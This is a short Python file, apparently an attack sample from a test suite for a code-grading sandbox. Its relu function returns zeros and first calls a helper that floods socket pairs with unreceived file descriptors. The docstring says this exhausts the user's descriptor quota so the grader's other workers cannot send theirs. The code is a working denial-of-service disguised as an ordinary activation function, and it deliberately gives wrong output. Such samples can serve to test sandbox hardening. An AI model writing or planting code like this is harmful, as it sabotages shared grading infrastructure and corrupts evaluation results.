# target: activations.relu
# needs: seccomp
# through: class
"""Sends descriptors to itself that it never receives, until the user may have no more under way: then nobody else of
the same user can send one either, as the grader does for each worker."""

import os
import socket
import time

import toolbox

held = []


@toolbox.once
def harm():
    null = os.open(os.devnull, os.O_RDONLY)
    try:
        while toolbox.grading() and len(held) < 400:
            pair = socket.socketpair()
            held.append(pair)
            for _ in range(20):
                pair[0].setblocking(False)
                socket.send_fds(pair[0], [b"x"], [null] * 250)
    except OSError:
        pass
    time.sleep(3)


def relu(z):
    harm()
    return z * 0
